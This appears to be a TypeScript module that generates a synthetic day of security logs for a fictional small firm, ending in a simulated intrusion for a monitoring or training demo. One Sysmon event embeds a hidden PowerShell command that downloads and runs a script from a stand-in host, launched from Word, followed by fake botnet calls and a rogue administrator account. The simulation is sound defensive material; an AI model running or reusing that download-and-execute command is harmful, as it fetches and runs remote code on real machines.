import { type Instant, minute, second } from '../base/time.ts'
import { botnetLine, nxlogLine, trafficLine, virusLine, vpnFailLine, winlogbeatLine } from './lines.ts'

/** One line of the sample day: which sensor says it, at which device time, and when it is sent. */
export type DayLine = {
  readonly sensor: string
  /** The time that the line itself names. */
  readonly at: Instant
  /** When it is sent: the past is caught up at once, the attack happens as it is watched. */
  readonly sendAt: Instant
  readonly line: string
}

const host = 'FGT-YAMADA'
const keiri = '192.168.27.52'

/**
 * "A day at 山田製作所": seven quiet hours that end at `now`, with a dangerous file that the entrance stopped and one
 * mistyped password; then, from `now` on, a strange command on 経理-02, its calls to a criminal's computer that the entrance
 * drops, and a new administrator.
 */
export function dayAtYamada(now: Instant): DayLine[] {
  return [...quietMorning(now), ...attack(now)].sort((a, b) => a.sendAt - b.sendAt || a.at - b.at)
}

function quietMorning(now: Instant): DayLine[] {
  const begin = now - 7 * 60 * minute
  const past = (sensor: string, at: Instant, line: string): DayLine => ({ sensor, at, sendAt: now, line })
  const lines: DayLine[] = []
  const stations = [keiri, '192.168.27.61', '192.168.27.53']
  for (let step = 0; step * 3 * minute < 6.8 * 60 * minute; step++) {
    const at = begin + step * 3 * minute
    const from = stations[step % stations.length] ?? keiri
    const sent = 1_800 + ((step * 37) % 900)
    lines.push(
      past(
        'yamada-utm',
        at,
        trafficLine(at, { host, from, to: '203.0.113.10', sent, received: 24_000 + step }),
      ),
    )
  }
  const signIn = begin + 25 * minute
  lines.push(past('yamada-keiri', signIn, logon(signIn, 'KEIRI-02', 'sato')))
  lines.push(past('yamada-sekkei', signIn + 4 * minute, logon(signIn + 4 * minute, 'SEKKEI-01', 'suzuki')))
  const virus = begin + 155 * minute
  lines.push(past('yamada-utm', virus, virusLine(virus, { host, from: '192.168.27.61' })))
  const mistyped = begin + 210 * minute
  lines.push(
    past('yamada-utm', mistyped, vpnFailLine(mistyped, { host, from: '198.51.100.23', user: 'suzuki' })),
  )
  return lines
}

function logon(at: Instant, computer: string, user: string): string {
  return winlogbeatLine(at, {
    host: computer,
    channel: 'Security',
    provider: 'Microsoft-Windows-Security-Auditing',
    id: 4624,
    data: { TargetUserName: user, LogonType: '2', IpAddress: '-', WorkstationName: computer },
  })
}

function attack(now: Instant): DayLine[] {
  const live = (after: number, sensor: string, make: (at: Instant) => string): DayLine => {
    const at = now + after
    return { sensor, at, sendAt: at, line: make(at) }
  }
  const lines = [live(6 * second, 'yamada-keiri', strangeCommand)]
  for (let call = 0; call < 8; call++) {
    const line = (at: Instant): string => botnetLine(at, { host, from: keiri, to: '203.0.113.66' })
    lines.push(live((10 + call * 5) * second, 'yamada-utm', line))
  }
  lines.push(
    live(55 * second, 'yamada-soumu', newAccount),
    live(56 * second, 'yamada-soumu', madeAdministrator),
  )
  return lines
}

/** A command that fetches a program from outside and runs it, hidden from the eye. */
function strangeCommand(at: Instant): string {
  return winlogbeatLine(at, {
    host: 'KEIRI-02',
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'Microsoft-Windows-Sysmon',
    id: 1,
    data: {
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      CommandLine:
        'powershell.exe -NoProfile -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString(\'http://update.practice.example/a\')"',
      ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      User: 'YAMADA\\sato',
      ProcessId: '4712',
    },
  })
}

const account = {
  host: 'SOUMU-03',
  channel: 'Security',
  provider: 'Microsoft-Windows-Security-Auditing',
} as const

function newAccount(at: Instant): string {
  return nxlogLine(at, {
    ...account,
    id: 4720,
    data: { TargetUserName: 'support01', SubjectUserName: 'tanaka', TargetDomainName: 'SOUMU-03' },
  })
}

function madeAdministrator(at: Instant): string {
  return nxlogLine(at, {
    ...account,
    id: 4732,
    data: {
      TargetUserName: 'Administrators',
      TargetSid: 'S-1-5-32-544',
      MemberSid: 'S-1-5-21-1-2-3-1005',
      MemberName: 'support01',
      SubjectUserName: 'tanaka',
    },
  })
}
